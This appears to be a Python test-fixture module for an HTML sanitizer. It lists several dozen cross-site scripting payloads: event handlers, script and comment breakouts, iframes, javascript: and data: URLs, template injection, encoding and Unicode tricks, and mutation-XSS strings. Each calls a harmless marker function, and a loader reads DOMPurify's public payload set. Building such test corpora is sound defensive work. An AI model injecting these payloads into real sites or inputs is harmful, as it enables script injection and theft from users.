"""Texts that would do something, were they taken for markup: each calls `owned()` or asks for it.

They go where text goes. Contexts that each wants to leave: an element, an attribute in either kind
of quotes, a comment, a script, a style, a title, a text area; a URL; Markdown; a template; JSON.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

_RUN = "owned()"
_HANDLERS = (
    "<img src=/owned.png onerror=owned()>",
    "<img/src='/owned.png'/onerror='owned()'>",
    '"><img src=/owned.png onerror=owned()>',
    "'><svg/onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:owned() /><a><text y=9>x</text></a></svg>",
    "<details open ontoggle=owned()><summary>x</summary></details>",
    "<input autofocus onfocus=owned()>",
    "<video autoplay><source src=/owned.mp4 onerror=owned()></video>",
    "<audio src=/owned.mp3 onerror=owned()></audio>",
    "<marquee onstart=owned()>x</marquee>",
    "<body onload=owned()>",
    "<xss onpointerenter=owned() style=position:fixed;inset:0>x</xss>",
    "<div style='animation:spin 1s' onanimationstart=owned()>x</div>",
    "<button popovertarget=p autofocus onfocus=owned()>x</button>",
)
_SCRIPTS = (
    "<script>owned()</script>",
    "<script src=/owned.js></script>",
    "</script><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "</style><script>owned()</script>",
    "--><script>owned()</script>",
    "]]><script>owned()</script>",
    "<!--><script>owned()</script>-->",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<SCRIPT/X SRC='/owned.js'></SCRIPT>",
    "<script type=module>import '/owned.js'</script>",
    "<svg><script href=/owned.js /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/owned.png"
    " onerror=owned()&gt;'>",
    "<noscript><p title='</noscript><img src=/owned.png onerror=owned()>'>",
    "<template><script>owned()</script></template>",
)
_FRAMES = (
    "<iframe src=javascript:parent.owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data=/owned.swf></object>",
    "<embed src=/owned.swf>",
    "<frameset onload=owned()>",
    "<portal src=/owned></portal>",
    "<base href=https://owned.example/>",
    "<meta http-equiv=refresh content='0;url=/owned'>",
    "<link rel=stylesheet href=/owned.css>",
    "<link rel=prefetch href=/owned.html>",
    "<style>@import '/owned.css'; *{background:url(/owned.png)}</style>",
    "<form action=/owned><button autofocus>x</button></form>",
    "<siyaq-context post=owned src=/owned></siyaq-context>",
)
_URLS = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "\x01javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    "//owned.example/x.png",
    'https://owned.example/"onmouseover=owned()//',
    "https://owned.example/' onfocus=owned() autofocus '",
    "blob:https://owned.example/x",
    "file:///etc/passwd",
)
_OTHERS = (
    "[owned](javascript:owned())",
    "![owned](/owned.png)",
    "<javascript:owned()>",
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "<%= owned() %>",
    '","x":"</script><script>owned()</script>',
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#x3c;img src=/owned.png onerror=owned()&#x3e;",
    "\uff1cscript\uff1eowned()\uff1c/script\uff1e",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "سياق <img src=/owned.png onerror=owned()> نص",
    'قال: "><script>owned()</script>، ثم مضى',
    "\u202e<img src=/owned.png onerror=owned()>\u202c",
    "a\u200b<svg/onload=owned()>",
    "constructor",
    "__proto__",
    "hasOwnProperty<img name=getElementById id=question>",
)

PACK: Sequence[str] = (*_HANDLERS, *_SCRIPTS, *_FRAMES, *_URLS, *_OTHERS)


def public_cases(folder: Path) -> list[str]:
    """Read payloads of a public collection (DOMPurify's own, as JSON: `payload` of each)."""
    document: list[dict[str, Any]] = json.loads((folder / "dompurify.json").read_text("utf-8"))
    return [str(one["payload"]) for one in document if one["payload"]]
